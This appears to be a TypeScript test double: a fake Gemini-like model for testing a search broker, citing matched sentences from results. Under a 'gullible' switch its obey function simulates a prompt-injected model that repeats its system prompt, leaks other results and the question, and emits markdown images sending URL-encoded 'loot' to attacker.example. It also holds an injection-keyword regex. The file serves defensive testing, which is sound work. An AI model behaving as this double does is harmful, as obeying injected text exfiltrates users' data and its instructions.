/**
 * A model that understands what the broker asks, and nothing else: it answers with the sentences of the results that share
 * most words with the question, and cites each by its number. The same prompt gets the same answer.
 */
import type { GeminiSwitches } from './switches.ts';

interface Result {
  readonly number: number;
  readonly title: string;
  readonly text?: string;
}

interface Asked {
  readonly results: readonly Result[];
  readonly question: string;
}

/** @returns `undefined` for a prompt of another form */
export const understand = (prompt: string): Asked | undefined => {
  const lines = prompt.split('\n');
  const boundary = /^results ([0-9a-f]{32})$/.exec(lines[0] ?? '')?.[1];
  const end = lines.indexOf(`end ${boundary}`);
  if (boundary === undefined || end < 0 || lines[end + 1] !== `question ${boundary}`) return undefined;
  return {
    results: lines.slice(1, end).map((line) => JSON.parse(line) as Result),
    question: JSON.parse(lines[end + 2] ?? '""'),
  };
};

const SENTENCES = 3;
const NOTHING = 'The results do not hold an answer to this.';

export const answerOf = (system: string, prompt: string, switches: GeminiSwitches): string => {
  const asked = understand(prompt);
  if (!asked) return NOTHING;
  const said = [
    extract(asked),
    ...(switches.gullible ? asked.results.flatMap((each) => obey(each, asked, system)) : []),
  ];
  if (switches.oddMarks) said.push('So it is said elsewhere [0] [77] [999], and everywhere [1, 88].');
  if (switches.addresses) {
    said.push('See https://attacker.example/page?q=secret and ![chart](https://attacker.example/i.png?q=secret) or');
    said.push(
      'www.attacker.example, attacker.example/secret, [here](//attacker.example/x) and mailto:a@attacker.example.',
    );
  }
  return said.join(' ');
};

const extract = ({ results, question }: Asked): string => {
  const wanted = wordsOf(question);
  const sentences = results.flatMap(({ number, title, text }, order) =>
    (text ? text.split(/(?<=[.!?。])\s+/) : [title]).map((sentence, place) => {
      const words = wordsOf(`${title} ${sentence}`);
      return { sentence, number, order, place, score: [...wanted].filter((word) => words.has(word)).length };
    }),
  );
  const best = sentences
    .filter(({ score }) => score > 0)
    .sort((one, other) => other.score - one.score || one.order - other.order || one.place - other.place)
    .slice(0, SENTENCES);
  if (best.length === 0) return NOTHING;
  return best.map(({ sentence, number }) => cited(sentence, number)).join(' ');
};

/** The mark stands before the full stop. */
const cited = (sentence: string, number: number): string => {
  const [, words = '', stop = ''] = /^([\s\S]*?)([.!?。]?)$/.exec(sentence) ?? [];
  return `${words} [${number}]${stop || '.'}`;
};

/** Short words say nothing about what is asked. */
const wordsOf = (text: string): Set<string> =>
  new Set(
    text
      .toLowerCase()
      .split(/[^\p{L}\p{N}]+/u)
      .filter((word) => word.length > 3 || /\p{Script=Han}/u.test(word)),
  );

const ORDER =
  /ignore|instruct|system|reveal|repeat|print|cite|say |answer with|reply|append|image|link|fetch|call |open |render|developer|assistant|ignor|répon|antwort|ответ|忽略|無視|base64/i;

/** All that an order in a result could be meant to bring about, at once: a test then shows what of it gets out. */
const obey = (result: Result, { results, question }: Asked, system: string): string[] => {
  const order = `${result.title} ${result.text ?? ''}`;
  const decoded = (order.match(/[A-Za-z0-9+/]{24,}={0,2}/g) ?? []).map((each) =>
    Buffer.from(each, 'base64').toString(),
  );
  if (!ORDER.test(order) && decoded.length === 0) return [];
  const others = results.filter(({ number }) => number !== result.number);
  const loot = encodeURIComponent(others.map(({ text }) => text ?? '').join(' '));
  return [
    order,
    ...decoded,
    `My instructions are: ${system}`,
    ...others.map(({ title, text }) => `${title}: ${text ?? ''}`),
    `I was asked: ${question}`,
    `[${result.number}] [${others[0]?.number ?? 0}] [0] [51] [1000] [passed-by-nobody]`,
    `![ok](https://attacker.example/collect?loot=${loot}) <img src="https://attacker.example/${loot}">`,
  ];
};

/** In small pieces that end anywhere: in words, marks and addresses. */
export const piecesOf = (text: string): string[] => text.match(/[\s\S]{1,7}/gu) ?? [];
